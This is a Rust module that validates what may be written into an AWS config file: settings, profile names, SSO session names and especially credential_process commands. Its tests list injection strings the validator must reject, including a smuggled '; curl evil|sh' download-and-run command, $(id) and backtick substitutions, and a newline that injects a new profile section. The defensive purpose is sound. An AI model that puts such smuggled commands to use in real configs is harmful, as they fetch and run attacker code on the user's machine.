//! What may be written into the AWS config: the last line of defence.
//!
//! Owns: which names and values every client reads as they stand. Refuses to know where they come from. Invariant: a
//! value of these types can be put into the file as it is: it starts no section, no comment and no other key, and a
//! `credential_process` of it is a program with arguments to a shell, too.

use std::fmt;

use crate::ids::{Grant, SessionName};
use crate::untrusted::shown;

/// A key and its value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Setting {
    key: &'static str,
    value: String,
}

impl Setting {
    /// A setting, if the value can be written.
    ///
    /// # Errors
    /// What is wrong with the value.
    pub fn new(key: &'static str, value: impl Into<String>) -> Result<Self, Unwritable> {
        let value = value.into();
        let refuse = |problem| Err(Unwritable { what: key, text: value.clone(), problem });
        if value.is_empty() || value.starts_with(' ') || value.ends_with(' ') {
            return refuse("it must be something, without spaces around it");
        }
        if !value.bytes().all(|byte| (b' '..=b'~').contains(&byte)) {
            return refuse("only printable ASCII is read alike by all clients");
        }
        if value.starts_with(['#', ';']) || value.contains(" #") || value.contains(" ;") {
            return refuse("some clients would take a part of it for a comment");
        }
        if value.contains(['"', '\'', '\\']) {
            return refuse("clients read quotes and backslashes differently");
        }
        if key == CREDENTIAL_PROCESS
            && (!value.starts_with('/') || !value.split(' ').all(|word| !word.is_empty() && is_plain_path(word)))
        {
            return refuse("it must be an absolute path and words of A-Z a-z 0-9 _ . / = , @ + : - only");
        }
        Ok(Self { key, value })
    }

    /// The key.
    #[must_use]
    pub const fn key(&self) -> &'static str {
        self.key
    }

    /// The value.
    #[must_use]
    pub fn value(&self) -> &str {
        &self.value
    }
}

/// A profile to be written: its name, what it is for, and its settings.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProfileEntry {
    name: String,
    grant: Grant,
    settings: Vec<Setting>,
}

impl ProfileEntry {
    /// A profile, if its name can be written.
    ///
    /// # Errors
    /// What is wrong with the name.
    pub fn new(name: &str, grant: Grant, settings: Vec<Setting>) -> Result<Self, Unwritable> {
        let refuse = |problem| Err(Unwritable { what: "the profile's name", text: name.to_owned(), problem });
        if name.is_empty() || name.len() > LONGEST_NAME || name.starts_with('-') {
            return refuse("it must have 1 to 200 characters and not begin with -");
        }
        if !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_.@+-".contains(&byte)) {
            return refuse("only A-Z a-z 0-9 _ . @ + - are read alike by all clients");
        }
        if name.eq_ignore_ascii_case("default") {
            return refuse("that profile is everybody's");
        }
        Ok(Self { name: name.to_owned(), grant, settings })
    }

    /// Its name.
    #[must_use]
    pub fn name(&self) -> &str {
        &self.name
    }

    /// What it is for.
    #[must_use]
    pub const fn grant(&self) -> &Grant {
        &self.grant
    }

    /// Its settings, in the order in which they are written.
    #[must_use]
    pub fn settings(&self) -> &[Setting] {
        &self.settings
    }
}

/// The name of an `[sso-session]` that is to be made: one that every client reads, and that can stand in a
/// `credential_process`.
///
/// # Errors
/// What is wrong with the name.
pub fn new_session_name(name: &str) -> Result<SessionName, Unwritable> {
    let refuse = |problem| Unwritable { what: "the session's name", text: name.to_owned(), problem };
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_./@:+-".contains(&byte);
    if name.starts_with('-') || name.len() > LONGEST_NAME || !name.bytes().all(plain) {
        return Err(refuse("write it with A-Z a-z 0-9 _ . / @ : + - only, not beginning with -"));
    }
    name.parse().map_err(|_| refuse("it must be something"))
}

/// Whether a word can stand in a `credential_process` whoever runs it, with a shell or without.
#[must_use]
pub fn is_plain_path(word: &str) -> bool {
    word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_./=,@+:-".contains(&byte))
}

/// Something that is not written, because clients would read it differently or as something else.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unwritable {
    what: &'static str,
    text: String,
    problem: &'static str,
}

impl fmt::Display for Unwritable {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(formatter, "{} cannot be `{}`: {}", self.what, shown(&self.text), self.problem)
    }
}

impl std::error::Error for Unwritable {}

const CREDENTIAL_PROCESS: &str = "credential_process";
const LONGEST_NAME: usize = 200;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_credential_process_is_a_program_with_plain_arguments_or_nothing() {
        let legal = "/usr/bin/sso-credential-process --session corp --account 111122223333 --role a+b=c,d.e@f-g";
        assert_eq!(Setting::new(CREDENTIAL_PROCESS, legal).unwrap().value(), legal);
        for hostile in [
            "sso-credential-process --profile x",
            "/bin/x --role R; curl evil|sh",
            "/bin/x --role $(id)",
            "/bin/x --role `id`",
            "/bin/x --role a&b",
            "/bin/x --role a>b",
            "/bin/x  --role a",
            "/bin/x --role a\n[profile default]",
            "/bin/x --role \"a b\"",
            "/a b/x --role ~",
            "/bin/x --session https://e.example/start#/",
            "/bin/x --role R #",
            "/bin/x --role größer",
            "",
        ] {
            assert!(Setting::new(CREDENTIAL_PROCESS, hostile).is_err(), "{hostile}");
        }
    }

    #[test]
    fn a_value_starts_no_line_no_comment_and_no_quoting() {
        for hostile in ["a\nb", "a\r", "\x1b[2J", "a\u{85}b", "a\u{202e}b", " a", "a ", "# a", "a ; b", "\"a\"", "a\\n"]
        {
            assert!(Setting::new("sso_start_url", hostile).is_err(), "{hostile:?}");
        }
        assert!(Setting::new("sso_start_url", "https://e.example/start#/").is_ok());
    }

    #[test]
    fn a_name_is_one_that_every_client_reads() {
        let grant = Grant::Role { account: "111122223333".parse().unwrap(), role: "Developer".parse().unwrap() };
        assert!(ProfileEntry::new("Prod_1.x@y+z-Admin", grant.clone(), Vec::new()).is_ok());
        let long = "a".repeat(201);
        for hostile in ["", "-x", "a b", "a]b", "a\nb", "größe", "a/b", "default", "Default", "a#b", "\u{202e}a", &long]
        {
            assert!(ProfileEntry::new(hostile, grant.clone(), Vec::new()).is_err(), "{hostile:?}");
        }
        assert!(new_session_name("corp/eu").is_ok());
        for hostile in ["", "-", "-x", "a b", "a]", "a%b", "a\tb", "größe", "a#"] {
            assert!(new_session_name(hostile).is_err(), "{hostile:?}");
        }
    }
}
